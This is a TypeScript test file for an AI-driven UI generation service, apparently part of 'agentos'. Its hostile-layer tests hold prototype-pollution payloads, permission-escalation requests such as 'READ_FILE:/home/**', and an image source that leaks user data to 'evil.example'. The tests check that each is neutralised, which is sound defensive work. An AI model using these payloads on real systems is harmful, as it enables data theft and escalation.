/** Generation against an AI layer on a real socket: what the browser is told, what is saved, and what a hostile layer can do. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  applyOp,
  type Blueprint,
  BlueprintOp,
  createStreamReader,
  emptyDocument,
  toOperations,
  validateBlueprint,
} from '@agentos/blueprint';
import { App } from '@agentos/protocol';
import { AIServiceService, type ChatEvent, type GenerateEvent, type GenerateRequest } from '@agentos/protocol/ai';
import { Server, ServerCredentials, type ServerWritableStream, status } from '@grpc/grpc-js';
import { pino } from 'pino';
import { afterEach, describe, expect, it } from 'vitest';
import type { Told } from '../observability/outbox.ts';
import type { AiEventType, Drafts, StreamPayload } from './contract.ts';
import { createGeneration } from './generation.ts';

const document: Blueprint = {
  app: { id: 'books', name: 'Books', permissions: ['STANDARD'] },
  data: { books: [], draft: { title: '' } },
  persist: ['books'],
  ui: {
    title: 'Books',
    layout: 'vertical',
    components: [
      { type: 'input', id: 'title', props: { label: 'Title' }, bind: 'draft.title' },
      {
        type: 'button',
        id: 'add',
        props: { text: 'Add' },
        on_event: { click: { tool: 'list.add', args: { path: 'books', item: '=draft' } } },
      },
      {
        type: 'list',
        id: 'list',
        children: [{ type: 'text', id: 'row', props: { text: '=item.title' }, repeat: 'books' }],
      },
    ],
  },
};

type StreamCall = ServerWritableStream<GenerateRequest, GenerateEvent>;
type Event = NonNullable<GenerateEvent['event']>;

interface World {
  readonly generation: ReturnType<typeof createGeneration>;
  readonly told: StreamPayload[];
  readonly drafts: Map<string, Blueprint>;
  readonly wanted: number;
  readonly tokens: string[];
}

const cleanUp: (() => void | Promise<void>)[] = [];
afterEach(async () => {
  for (const close of cleanUp.splice(0).reverse()) await close();
});

/** Services with an AI layer that behaves as told, and drafts that are kept in memory. */
async function world(
  streamUi: (call: StreamCall) => void,
  options: {
    streamChat?: (call: ServerWritableStream<unknown, ChatEvent>) => void;
    want?: () => Promise<void>;
    serve?: boolean;
    observe?: (type: AiEventType, about: Told) => void;
  } = {},
): Promise<World & { emit: (payload: StreamPayload) => void }> {
  const run = mkdtempSync(join(tmpdir(), 'agentos-gen-'));
  cleanUp.push(() => rmSync(run, { recursive: true, force: true }));
  const aiSocket = join(run, 'ai.sock');
  const tokens: string[] = [];
  const serve = async (): Promise<void> => {
    const server = new Server();
    server.addService(AIServiceService, {
      generateUi: (_call: unknown, callback: (error: Error) => void) => callback(new Error('not used')),
      streamUi: (call: StreamCall) => {
        tokens.push(String(call.metadata.get('authorization')[0]));
        streamUi(call);
      },
      streamChat: options.streamChat ?? ((call: StreamCall) => call.end()),
    });
    writeFileSync(join(run, 'ai.token'), 'secret-token\n', { mode: 0o600 });
    await new Promise<void>((resolve, reject) => {
      server.bindAsync(`unix:${aiSocket}`, ServerCredentials.createInsecure(), (error) =>
        error === null ? resolve() : reject(error),
      );
    });
    cleanUp.push(() => server.forceShutdown());
  };
  let wanted = 0;
  const drafts = new Map<string, Blueprint>();
  const kept: Drafts = {
    async launch(blueprint) {
      const id = `a${drafts.size + 1}`;
      const package_id = `${blueprint.app.id}-2`;
      drafts.set(id, { ...blueprint, app: { ...blueprint.app, id: package_id } });
      return App.parse({
        id,
        hash: 'h',
        package_id,
        title: blueprint.ui.title,
        icon: '',
        type: 'blueprint',
        state: 'active',
        parent_id: null,
        created_at: 0,
        sandbox_pid: 1,
        ui_spec: JSON.parse(JSON.stringify(blueprint)),
        frame: null,
        process: null,
        window: null,
        window_hints: null,
        app_state: null,
        permissions: ['STANDARD'],
        args: {},
      });
    },
    async update(appId, blueprint) {
      const old = drafts.get(appId);
      if (old === undefined) throw new Error(`no draft ${appId}`);
      const stored = { ...blueprint, app: { ...blueprint.app, id: old.app.id } };
      drafts.set(appId, stored);
      return stored;
    },
    async discard(appId) {
      drafts.delete(appId);
    },
  };
  const generation = createGeneration({
    log: pino({ level: 'silent' }),
    aiSocket,
    drafts: kept,
    ...(options.observe === undefined ? {} : { tell: options.observe }),
    async wantAi() {
      wanted += 1;
      if (options.want !== undefined) await options.want();
      else if (wanted === 1 && options.serve !== false) await serve();
    },
  });
  cleanUp.push(() => generation.close());
  const told: StreamPayload[] = [];
  return {
    generation,
    told,
    drafts,
    tokens,
    get wanted() {
      return wanted;
    },
    emit: (payload) => void told.push(payload),
  };
}

function send(call: StreamCall, events: readonly Event[]): void {
  for (const [sequence, event] of events.entries()) call.write({ sequence, event });
}
const operation = (op: unknown): Event => ({ $case: 'operationJson', value: JSON.stringify(op) });
const done = (value: unknown): Event => ({
  $case: 'done',
  value: { blueprintJson: JSON.stringify(value), engine: 'test', usage: { tokensIn: 3, tokensOut: 9 } },
});
const request = { id: 'r1', message: 'books', context: { locale: 'en' }, parentId: null, traceparent: 'tp' };
const never = new AbortController().signal;
const types = (told: readonly StreamPayload[]): string[] => told.map(({ type }) => type);

describe('generation', () => {
  it('launches a draft with the first component, tells every operation, saves the whole', async () => {
    const { generation, emit, told, drafts, tokens } = await world((call) => {
      send(call, [{ $case: 'thought', value: 'Understood' }, ...toOperations(document).map(operation), done(document)]);
      call.end();
    });
    const outcome = await generation.generate(request, emit, never);
    expect(outcome).toMatchObject({ kind: 'app', appId: 'a1', thoughts: ['Understood'] });
    expect(types(told).slice(0, 3)).toEqual(['thought', 'ui_start', 'ui_op']);
    expect(types(told).at(-1)).toBe('ui_complete');
    const ops = told.flatMap((message) => (message.type === 'ui_op' ? [BlueprintOp.parse(message.op)] : []));
    const states = new Set<string>();
    const grown = ops.reduce((growing, op) => {
      const next = applyOp(growing, op);
      states.add(JSON.stringify(next.blueprint?.ui.components));
      return next;
    }, emptyDocument());
    expect(states.size).toBeGreaterThanOrEqual(3);
    expect(grown.blueprint).toEqual({ ...document, app: { ...document.app, id: 'books-2' } });
    expect(drafts.get('a1')).toEqual(grown.blueprint);
    expect(tokens).toEqual(['Bearer secret-token']);
    expect(generation.health().state).toBe('up');
  });

  it('follows the text that a model writes, from the first letters of a component on', async () => {
    const reader = createStreamReader();
    const text = JSON.stringify(document);
    const pieces = text.match(/.{1,4}/g) ?? [];
    const ops = [...pieces.flatMap((piece) => reader.push(piece)), ...reader.end().ops];
    const { generation, emit, told, drafts } = await world((call) => {
      send(call, [
        ...ops.map(operation),
        operation({ op: 'issue', code: 'comment', message: 'a comment was left out' }),
        done(document),
      ]);
      call.end();
    });
    await generation.generate(request, emit, never);
    const operations = told.flatMap((message) => (message.type === 'ui_op' ? [BlueprintOp.parse(message.op)] : []));
    const half = operations.slice(0, operations.length / 2).reduce(applyOp, emptyDocument());
    expect(half.blueprint?.ui.components.length).toBeGreaterThan(0);
    const grown = operations.reduce(applyOp, emptyDocument());
    expect(grown.blueprint).toEqual({ ...document, app: { ...document.app, id: 'books-2' } });
    expect(drafts.get('a1')).toEqual(grown.blueprint);
    expect(told).toContainEqual({ type: 'ui_issue', app_id: 'a1', message: 'a comment was left out' });
  });

  it('asks back without making anything', async () => {
    const { generation, emit, told, drafts } = await world((call) => {
      send(call, [{ $case: 'question', value: { content: 'What?', suggestions: ['Tip calculator'] } }]);
      call.end();
    });
    await expect(generation.generate(request, emit, never)).resolves.toEqual({
      kind: 'question',
      content: 'What?',
      thoughts: [],
    });
    expect(told).toEqual([{ type: 'question', content: 'What?', suggestions: ['Tip calculator'] }]);
    expect(drafts.size).toBe(0);
  });

  it('ends the call and keeps what is there when it is stopped after it began', async () => {
    const stopped = Promise.withResolvers<void>();
    const { generation, emit, told, drafts } = await world((call) => {
      call.on('cancelled', () => stopped.resolve());
      send(call, toOperations(document).slice(0, 5).map(operation));
    });
    const abort = new AbortController();
    const generating = generation.generate(
      request,
      (payload) => {
        emit(payload);
        if (told.filter(({ type }) => type === 'ui_op').length === 4) abort.abort();
      },
      abort.signal,
    );
    await expect(generating).rejects.toMatchObject({ code: 'ECANCELED' });
    await stopped.promise;
    const kept = drafts.get('a1');
    expect(kept?.ui.components.length).toBeGreaterThan(0);
    expect(validateBlueprint(kept)).toMatchObject({ ok: true });
    expect(types(told).slice(-2)).toEqual(['ui_issue', 'ui_complete']);
  });

  it('leaves nothing behind when it is stopped before it began', async () => {
    const abort = new AbortController();
    const { generation, emit, drafts } = await world((call) => {
      send(call, [{ $case: 'thought', value: 'hm' }]);
      abort.abort();
    });
    await expect(generation.generate(request, emit, abort.signal)).rejects.toMatchObject({ code: 'ECANCELED' });
    expect(drafts.size).toBe(0);
  });

  it('passes a failure on with its code', async () => {
    const { generation, emit } = await world((call) => {
      send(call, [{ $case: 'failure', value: { code: 'EBUDGET', message: 'the budget of today is used up' } }]);
      call.end();
    });
    await expect(generation.generate(request, emit, never)).rejects.toMatchObject({
      code: 'EBUDGET',
      message: 'the budget of today is used up',
    });
    expect(generation.health()).toMatchObject({ state: 'degraded' });
  });

  it('says why the layer cannot be started, and that the rest works', async () => {
    const { generation, emit } = await world(() => undefined, {
      want: () => Promise.reject(new Error('it ended three times')),
    });
    await expect(generation.generate(request, emit, never)).rejects.toMatchObject({
      code: 'EUNAVAILABLE',
      message: expect.stringContaining('it ended three times'),
    });
    expect(generation.health()).toMatchObject({ state: 'degraded' });
  });

  it('starts nothing for health', async () => {
    const made = await world(() => undefined);
    expect(made.generation.health()).toMatchObject({ state: 'on demand' });
    expect(made.wanted).toBe(0);
  });

  it('says so when the layer goes away or ends without an answer', async () => {
    const silent = await world((call) => call.end());
    await expect(silent.generation.generate(request, silent.emit, never)).rejects.toMatchObject({ code: 'EPROTO' });
    const broken = await world((call) => {
      call.emit('error', Object.assign(new Error('inner'), { code: status.INTERNAL, details: 'inner secret' }));
    });
    const failed = broken.generation.generate(request, broken.emit, never);
    await expect(failed).rejects.toMatchObject({ code: 'EIO' });
    await expect(failed).rejects.not.toThrow(/secret/);
  });

  it('answers a chat token by token', async () => {
    const { generation, emit, told } = await world(() => undefined, {
      streamChat: (call) => {
        for (const value of ['Press ', 'Ctrl+K']) call.write({ event: { $case: 'token', value } });
        call.write({ event: { $case: 'done', value: { engine: 'test', usage: undefined } } });
        call.end();
      },
    });
    await generation.chat(request, emit, never);
    expect(told).toEqual([
      { type: 'token', content: 'Press ' },
      { type: 'token', content: 'Ctrl+K' },
      { type: 'complete' },
    ]);
  });
});

describe('an AI layer that is wrong or hostile', () => {
  it('gets no rights for its app, whatever it asks for', async () => {
    const greedy = {
      ...document,
      app: { ...document.app, permissions: ['STANDARD', 'READ_FILE:/home/**', 'SPAWN_PROCESS'] },
    };
    const { generation, emit, told, drafts } = await world((call) => {
      send(call, [...toOperations(greedy).map(operation), done(greedy)]);
      call.end();
    });
    await generation.generate(request, emit, never);
    expect(drafts.get('a1')?.app.permissions).toEqual(['STANDARD']);
    expect(JSON.stringify(told)).not.toContain('READ_FILE');
  });

  it.each([
    [
      'a forbidden name',
      JSON.parse('{"app":{"id":"x","name":"X"},"data":{"__proto__":{"a":1}},"ui":{"title":"X","components":[]}}'),
    ],
    ['no document', 'text'],
  ])('is refused with %s, and its draft is gone', async (_, bad) => {
    const { generation, emit, told, drafts } = await world((call) => {
      send(call, [
        ...toOperations(document).slice(0, 4).map(operation),
        operation({ op: 'add', parent: null, component: { type: 'button', id: 'b', on_event: { click: 'evil.run' } } }),
        done(bad),
      ]);
      call.end();
    });
    await expect(generation.generate(request, emit, never)).rejects.toMatchObject({ code: 'EPROTO' });
    expect(drafts.size).toBe(0);
    expect(types(told)).not.toContain('ui_complete');
  });

  it.each([
    ['an unknown tool', { type: 'button', id: 'b', props: { text: 'x' }, on_event: { click: 'evil.run' } }],
    [
      'an address built from data',
      { type: 'image', id: 'b', props: { src: "='https://evil.example/' + draft.title" } },
    ],
  ])('has a card in place of %s, said aloud, and nothing of it is armed', async (_, component) => {
    const bad = { ...document, ui: { ...document.ui, components: [component] } };
    const { generation, emit, told, drafts } = await world((call) => {
      send(call, [done(bad)]);
      call.end();
    });
    await generation.generate(request, emit, never);
    const [shown] = drafts.get('a1')?.ui.components ?? [];
    expect(shown).toMatchObject({ type: 'card', id: 'b', props: { title: 'This part could not be made' } });
    expect(JSON.stringify(shown)).not.toMatch(/"(on_event|src)"/);
    expect(told.filter(({ type }) => type === 'thought' || type === 'ui_issue')).toHaveLength(1);
  });

  it('is repaired aloud when its text is only almost JSON', async () => {
    const { generation, emit, told, drafts } = await world((call) => {
      const text = `\`\`\`json\n${JSON.stringify(document).replace(/}$/, ',}}')}\n\`\`\``;
      const sent = done(document);
      if (sent.$case === 'done') sent.value.blueprintJson = text;
      send(call, [sent]);
      call.end();
    });
    await generation.generate(request, emit, never);
    expect(drafts.get('a1')?.ui.components).toEqual(document.ui.components);
    expect(told.filter(({ type }) => type === 'thought').length).toBeGreaterThan(0);
  });

  it('leaves out operations that are none, aloud', async () => {
    const deep = `{"op":"add","parent":null,"component":${'{"type":"row","id":"r","children":['.repeat(3_000)}${']}'.repeat(3_000)}}`;
    const bad: Event[] = [
      { $case: 'operationJson', value: 'no json' },
      { $case: 'operationJson', value: '{"op":"data","path":"constructor","value":1}' },
      { $case: 'operationJson', value: '{"op":"data","path":"x","value":{"__proto__":{"polluted":true}}}' },
      { $case: 'operationJson', value: deep },
      operation({ op: 'add', parent: 'nowhere', component: { type: 'text', id: 't2' } }),
      operation({ op: 'add', parent: null, component: { type: 'text', id: 'title' } }),
      operation({ op: 'surprise' }),
    ];
    const [begin, ...rest] = toOperations(document).map(operation);
    const { generation, emit, told, drafts } = await world((call) => {
      send(call, [
        ...(begin === undefined ? [] : [begin]),
        ...rest.slice(0, 5),
        ...bad,
        ...rest.slice(5),
        done(document),
      ]);
      call.end();
    });
    await generation.generate(request, emit, never);
    expect(told.filter(({ type }) => type === 'ui_issue' || type === 'thought')).toHaveLength(bad.length);
    expect(drafts.get('a1')?.ui.components).toEqual(document.ui.components);
    expect(JSON.stringify(told)).not.toContain('polluted');
  });

  it('is cut off when it never stops', async () => {
    const { generation, emit, drafts } = await world((call) => {
      const [begin] = toOperations(document);
      send(call, [operation(begin)]);
      const more = (): void => {
        while (
          !call.cancelled &&
          call.write({ sequence: 1, event: operation({ op: 'data', path: 'x', value: 'y'.repeat(10_000) }) })
        );
        if (!call.cancelled) call.once('drain', more);
      };
      more();
    });
    await expect(generation.generate(request, emit, never)).rejects.toMatchObject({ code: 'EPROTO' });
    expect(drafts.size).toBe(0);
  });
});

describe('what is told of the AI layer', () => {
  const traceparent = '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01';
  const traced = { ...request, traceparent };

  it('is a hop of the trace: asked for, first piece, answered with its tokens', async () => {
    const observed: [AiEventType, Told][] = [];
    let carried = '';
    const { generation, emit } = await world(
      (call) => {
        carried = call.request.traceparent;
        send(call, [...toOperations(document).map(operation), done(document)]);
        call.end();
      },
      { observe: (type, about) => observed.push([type, about]) },
    );
    await generation.generate(traced, emit, never);
    expect(observed.map(([type]) => type)).toEqual(['ai.first_token', 'ai.request']);
    const [first, whole] = observed.map(([, about]) => about);
    expect(whole).toMatchObject({ subject: 'app', b: 3, c: 9, span: { parentSpanId: '00f067aa0ba902b7' } });
    expect(first!.a).toBeLessThanOrEqual(whole!.a!);
    // What the AI layer was given is the hop itself.
    expect(carried).toBe(whole!.span.traceparent);
    expect(first!.span.parentSpanId).toBe(carried.slice(36, 52));
    expect(JSON.stringify(observed)).not.toContain('books');
  });

  it('is a failure with its code; one that was cancelled is none', async () => {
    const observed: [AiEventType, Told][] = [];
    const observe = (type: AiEventType, about: Told): void => void observed.push([type, about]);
    const broken = await world((call) => call.end(), { observe });
    await broken.generation.generate(traced, broken.emit, never).catch(() => undefined);
    expect(observed).toEqual([['ai.failed', expect.objectContaining({ subject: 'app', text: 'EPROTO' })]]);
    const cancelled = new AbortController();
    const waiting = await world(() => cancelled.abort(), { observe });
    await waiting.generation.generate(traced, waiting.emit, cancelled.signal).catch(() => undefined);
    expect(observed).toHaveLength(1);
  });
});
